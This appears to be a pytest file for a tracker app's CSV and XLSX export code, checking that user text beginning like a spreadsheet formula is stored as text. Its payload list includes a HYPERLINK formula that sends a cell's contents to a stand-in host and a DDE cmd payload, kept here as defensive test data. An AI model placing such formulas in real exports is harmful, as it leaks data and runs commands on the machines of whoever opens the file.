"""Exports are safe in Excel: user text that starts like a formula is text in CSV and XLSX."""
import csv
import io

import pytest
from openpyxl import Workbook, load_workbook

from tracker.core.exports import csv_writer, safe_text, xlsx_append

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"詳細")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)",
            "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_safe_text_prefixes_formula_starts(payload):
    assert safe_text(payload) == "'" + payload


def test_numbers_dates_and_plain_text_are_unchanged():
    from datetime import date

    assert safe_text(-3) == -3 and safe_text(1.5) == 1.5 and safe_text("-3") == "-3" and safe_text("+1.25") == "+1.25"
    assert safe_text(date(2026, 4, 1)) == date(2026, 4, 1)
    assert safe_text("窓口の受付") == "窓口の受付" and safe_text("a=b") == "a=b"


def test_csv_writer_writes_formulas_as_text():
    out = io.StringIO()
    csv_writer(out).writerow([1, PAYLOADS[0], "普通"])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["1", "'" + PAYLOADS[0], "普通"]


def test_xlsx_append_types_text_as_strings_and_keeps_numbers():
    from datetime import date

    book = Workbook()
    xlsx_append(book.active, [7, PAYLOADS[0], date(2026, 4, 1), "普通"])
    stream = io.BytesIO()
    book.save(stream)
    sheet = load_workbook(io.BytesIO(stream.getvalue())).active
    number, text, day, plain = (sheet.cell(1, c) for c in range(1, 5))
    assert number.value == 7 and number.data_type == "n"
    assert text.value == PAYLOADS[0] and text.data_type == "s"  # a string cell, not a formula
    assert text.quotePrefix
    assert day.is_date and plain.value == "普通"
